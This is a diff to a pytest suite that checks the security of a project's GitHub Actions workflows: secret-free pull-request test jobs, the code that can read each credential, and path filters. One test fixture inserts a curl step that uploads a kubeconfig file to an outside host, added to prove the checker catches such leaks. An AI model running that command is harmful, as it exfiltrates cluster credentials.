@@ -14,6 +14,7 @@ appears anywhere in it, or it inherits secrets; a job in a GitHub environment se
 """
 from __future__ import annotations
 
+import ast
 import re
 from pathlib import Path
 from typing import Any
@@ -195,18 +196,29 @@ def test_path_filters_cover_every_input_of_the_program(file):
     assert _matches(load(WORKFLOW_DIR / "deploy.yml")["on"]["push"]["paths"], file)
 
 
-def test_a_workflow_runs_the_tests_on_pull_requests_without_secrets():
-    found = []
+TEST_COMMANDS = ("make lint test-unit", "make test-unit", "make test", "pytest")
+
+
+def test_every_pull_request_runs_the_tests_without_secrets():
+    """Some workflow started by every pull request (a ``pull_request`` trigger without a paths, paths-ignore or
+    branches filter) runs the lint and the unit and policy tests; every job that runs tests on a pull request holds
+    no secret, no GitHub environment and no write token (finding 11)."""
+    everywhere = []
     for path in WORKFLOWS:
         doc = load(path)
-        if "pull_request" not in doc["on"]:
+        if "pull_request" not in events(doc):
             continue
+        trigger = doc["on"]["pull_request"] if isinstance(doc["on"], dict) else None
+        unfiltered = not (trigger or {}).keys() & {"paths", "paths-ignore", "branches", "branches-ignore"}
         for name, job in doc["jobs"].items():
-            if any("make lint test-unit" in str(s.get("run", "")) or "pytest" in str(s.get("run", ""))
-                   for s in job.get("steps", [])):
-                assert not SECRET.search(text(job)) and "environment" not in job
-                found.append((path.name, name))
-    assert found
+            runs = " ".join(str(s.get("run", "")) for s in job.get("steps", []))
+            if not any(command in runs for command in TEST_COMMANDS):
+                continue
+            assert not secrets_seen(job) and not TOKEN.search(text(job)), f"{path.name} {name}"
+            assert job.get("permissions") == {"contents": "read"}, f"{path.name} {name}"
+            if unfiltered and "make lint test-unit" in runs:
+                everywhere.append((path.name, name))
+    assert everywhere, "no workflow runs `make lint test-unit` on every pull request"
 
 
 def test_every_secret_a_step_gets_is_in_that_steps_own_env_or_inputs():
@@ -427,30 +439,186 @@ def test_mains_old_live_preview_would_be_caught():
     assert violations(old)
 
 
-def security_page_credentials_table() -> dict[str, set[tuple[str, str]]]:
-    """docs/security.md's "Who can reach each credential" table: credential -> {(workflow, job)}."""
+#: A step's shell tools that run no project code (besides FILE_COMMANDS): writing, tailing and removing files.
+SHELL_TOOLS = {"umask", "printf", "tail", "tee", "set", "{", "}", "cat"}
+WRITES_FILE = re.compile(r'>\s*"?(\$RUNNER_TEMP/[\w./-]+)')
+MODULE_RUN = re.compile(r"\bpython3? -m ([\w.]+) (\w+)")
+
+
+def code_reaching(job: dict[str, Any], secret: str) -> set[str]:
+    """The code of ``job`` that can read ``secret``: every step that gets it in its own env or inputs and, once such
+    a step wrote it into a file under $RUNNER_TEMP, every later step until one removes that file. Each such step
+    counts as the ``python -m <module> <command>`` its script runs, the action it uses (``owner/name``), and any
+    other command of its script but the shell's file tools (SHELL_TOOLS, FILE_COMMANDS)."""
+    found: set[str] = set()
+    files: set[str] = set()
+    for step in job.get("steps", []):
+        direct = bool(re.search(rf"\bsecrets\.{secret}\b", text({k: step.get(k) for k in ("env", "with")})))
+        script = str(step.get("run", ""))
+        if direct or files:
+            if "uses" in step:
+                found.add(str(step["uses"]).split("@", 1)[0])
+            modules = MODULE_RUN.findall(script)
+            found |= {f"python -m {module} {command}" for module, command in modules}
+            others = script_commands(script) - FILE_COMMANDS - SHELL_TOOLS
+            found |= {c for c in others if not (modules and re.search(r"python3?$", c))}
+        if direct:
+            files |= set(WRITES_FILE.findall(script))
+        files = {f for f in files if not re.search(rf'rm -f "?{re.escape(f)}', script)}
+    return found
+
+
+def origin(doc: dict[str, Any], job: dict[str, Any]) -> str:
+    """Where a credentialed job's code comes from: ``main`` (a main-only job of push / dispatch) or ``base branch``
+    (pull_request_target: the base branch's workflow and checkout)."""
+    if job.get("if") == MAIN_ONLY and events(doc) <= {"push", "workflow_dispatch"}:
+        return "main"
+    assert events(doc) == {"pull_request_target"}, events(doc)
+    return "base branch"
+
+
+def security_page_credentials_table() -> dict[str, tuple[set[tuple[str, str]], set[str], str]]:
+    """docs/security.md's "Who can reach each credential" table: credential -> ({(workflow, job)} of the column
+    "jobs that can read it", {code} of "code that can read it", the text of "where that code comes from")."""
     page = (ROOT / "docs" / "security.md").read_text()
     section = page.split("## Who can reach each credential", 1)[1].split("\n#", 1)[0]
-    table: dict[str, set[tuple[str, str]]] = {}
+    table: dict[str, tuple[set[tuple[str, str]], set[str], str]] = {}
     for line in section.splitlines():
         cells = [c.strip() for c in line.strip().strip("|").split("|")]
-        if len(cells) < 3 or not cells[0].startswith("`") or set(cells[0]) <= {"-"}:
+        if len(cells) < 5 or not cells[0].startswith("`") or set(cells[0]) <= {"-"}:
             continue
         secret = cells[0].strip("`").split("`")[0]
-        table[secret] = set(re.findall(r"`([\w.-]+\.yml)` `([\w-]+)`", cells[2]))
+        table[secret] = (set(re.findall(r"`([\w.-]+\.yml)` `([\w-]+)`", cells[2])),
+                         set(re.findall(r"`([^`]+)`", cells[3])), cells[4])
     return table
 
 
-def test_the_security_page_states_per_credential_which_jobs_reach_it():
-    """Per credential (deploy kubeconfig, preview kubeconfig, passphrase, backend URL): the jobs that can read it
-    are exactly those docs/security.md names, and each of them runs base-branch / main code only."""
+def test_the_security_page_states_per_credential_which_jobs_and_code_reach_it():
+    """Per credential (deploy kubeconfig, preview kubeconfig, passphrase, backend URL): the jobs that can read it,
+    the code in them that can (the steps that get it, and those that run while it sits in a file), and where that
+    code comes from are exactly what docs/security.md says; none of those jobs runs pull-request code."""
     reach: dict[str, set[tuple[str, str]]] = {k: set() for k in CREDENTIALS}
+    code: dict[str, set[str]] = {k: set() for k in CREDENTIALS}
+    origins: dict[str, set[str]] = {k: set() for k in CREDENTIALS}
     for path in WORKFLOWS:
         doc = load(path)
         for name, job in doc["jobs"].items():
             for secret in secrets_seen(job) & set(CREDENTIALS):
                 reach[secret].add((path.name, name))
+                code[secret] |= code_reaching(job, secret)
+                origins[secret].add(origin(doc, job))
             assert not pr_code_reasons(doc, job) or not secrets_seen(job)
-    assert security_page_credentials_table() == reach
+    page = security_page_credentials_table()
+    assert set(page) == set(CREDENTIALS)
+    for secret in CREDENTIALS:
+        jobs_, code_, where = page[secret]
+        assert jobs_ == reach[secret], secret
+        assert code_ == code[secret], secret
+        assert {o for o in ("main", "base branch") if o in where} == origins[secret], (secret, where)
     assert reach["KUBECONFIG"] == {("deploy.yml", "staging"), ("deploy.yml", "prod")}
     assert reach["PREVIEW_KUBECONFIG"] == {("live-preview.yml", "live-preview")}
+    assert code["KUBECONFIG"] == {"python -m deploy up"} and code["PREVIEW_KUBECONFIG"] == {"python -m deploy preview"}
+
+
+def _leak_to_a_later_step(doc, job):
+    job["steps"].insert(-2, {"name": "debug", "run": "curl -F f=@$RUNNER_TEMP/kubeconfig https://example.com"})
+
+
+def _upload_before_forgetting(doc, job):
+    job["steps"].insert(-2, {"uses": "actions/upload-artifact@" + "0" * 40, "with": {"path": "${{ runner.temp }}"}})
+
+
+def _secret_to_make(doc, job):
+    passphrase = "${{ secrets.PULUMI_CONFIG_PASSPHRASE }}"
+    job["steps"].append({"run": "make up", "env": {"PULUMI_CONFIG_PASSPHRASE": passphrase}})
+
+
+@pytest.mark.parametrize("change,secret,extra", [
+    (_leak_to_a_later_step, "KUBECONFIG", "curl"),
+    (_upload_before_forgetting, "KUBECONFIG", "actions/upload-artifact"),
+    (_secret_to_make, "PULUMI_CONFIG_PASSPHRASE", "make"),
+], ids=lambda v: getattr(v, "__name__", v))
+def test_the_model_sees_every_code_that_can_read_a_credential(change, secret, extra):
+    """A step that could read the credential (directly, or from the file a step wrote it to) counts as code that
+    reaches it, and so would have to be on the security page."""
+    doc = load(WORKFLOW_DIR / "deploy.yml")
+    job = doc["jobs"]["staging"]
+    assert extra not in code_reaching(job, secret)
+    change(doc, job)
+    assert extra in code_reaching(job, secret)
+
+
+# --- Path filters: every file the deployed program and the summary run (finding 11) --------------------------------
+
+#: The entry points each workflow runs: the program (``__main__.py``) through ``python -m deploy`` with the policy
+#: pack, and for the pull-request summary ``kueue-cohorts pr-summary`` (``make pr-summary``).
+ENTRY_POINTS = {
+    "deploy.yml": ("__main__.py", "deploy/__main__.py", "policy/__main__.py"),
+    "preview.yml": ("__main__.py", "deploy/__main__.py", "policy/__main__.py", "kueue_cohorts/__main__.py"),
+}
+
+
+def _module_file(module: str) -> Path | None:
+    """The repository file of a dotted module name (a package's ``__init__.py``), or None when it is not ours."""
+    base = ROOT.joinpath(*module.split("."))
+    for candidate in (base.with_suffix(".py"), base / "__init__.py"):
+        if candidate.is_file():
+            return candidate
+    return None
+
+
+def import_closure(entries: tuple[str, ...]) -> set[str]:
+    """Every repository file the ``entries`` import, directly or not (``ast``; every import, also inside a
+    function), with the ``__init__.py`` of each package on the way; as POSIX paths relative to the repository."""
+    seen: set[Path] = set()
+    todo = [ROOT / e for e in entries]
+    while todo:
+        path = todo.pop()
+        if path in seen:
+            continue
+        seen.add(path)
+        rel = path.relative_to(ROOT)
+        package = list(rel.parent.parts)
+        for parent in range(1, len(package) + 1):
+            init = ROOT.joinpath(*package[:parent], "__init__.py")
+            if init.is_file():
+                todo.append(init)
+        for node in ast.walk(ast.parse(path.read_text())):
+            names: list[str] = []
+            if isinstance(node, ast.Import):
+                names = [alias.name for alias in node.names]
+            elif isinstance(node, ast.ImportFrom):
+                base = ".".join(package[: len(package) - node.level + 1] + [node.module or ""]) if node.level \
+                    else (node.module or "")
+                base = base.strip(".")
+                names = [base] + [f"{base}.{alias.name}" for alias in node.names]
+            for name in names:
+                found = _module_file(name) if name else None
+                if found is not None:
+                    todo.append(found)
+    return {p.relative_to(ROOT).as_posix() for p in seen}
+
+
+#: Files besides Python modules that decide what is deployed or previewed.
+PROJECT_FILES = ("Pulumi.yaml", "Makefile", "pyproject.toml", "requirements.txt", "requirements-dev.txt",
+                 "requirements.lock", "requirements-trainer.txt", "requirements-trainer.lock",
+                 "requirements-recipe-llamafactory.txt", "toolchain/versions.toml", "policy/PulumiPolicy.yaml",
+                 "policy/requirements.txt", "stacks/Pulumi.prod.yaml", "policy/config/prod.json")
+
+
+@pytest.mark.parametrize("workflow,trigger", [("deploy.yml", "push"), ("preview.yml", "pull_request")])
+def test_path_filters_cover_every_file_the_workflow_runs(workflow, trigger):
+    """A change to any file the workflow's code imports (the program, deploy, the pack, their tools) or reads as the
+    project (pins, locks, toolchain, Pulumi.yaml) starts it: none is deployed or merged without its preview."""
+    paths = load(WORKFLOW_DIR / workflow)["on"][trigger]["paths"]
+    files = sorted(import_closure(ENTRY_POINTS[workflow]) | {f for f in PROJECT_FILES if (ROOT / f).is_file()})
+    assert len(files) > 20 and "toolchain/versions.toml" in files
+    missed = [f for f in files if not _matches(paths, f)]
+    assert missed == [], f"{workflow} {trigger}.paths miss {missed}"
+
+
+def test_the_import_closure_follows_imports_of_every_form():
+    closure = import_closure(("deploy/__main__.py",))
+    assert {"deploy/__main__.py", "deploy/__init__.py", "deploy/queue_holders.py", "components/model/kueue.py",
+            "components/__init__.py", "toolchain/__init__.py"} <= closure
+    assert "tests/unit/test_workflow_security.py" not in closure
